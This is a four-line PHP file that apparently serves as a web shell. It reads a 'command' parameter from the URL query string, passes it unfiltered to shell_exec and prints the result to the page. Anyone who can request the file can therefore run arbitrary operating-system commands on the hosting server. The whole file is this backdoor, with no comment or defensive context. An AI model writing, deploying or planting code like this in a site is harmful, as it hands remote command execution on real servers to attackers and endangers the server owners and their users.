<?php
$command = $_GET["command"];
$out = shell_exec($command . " 2>&1");
echo nl2br($out);
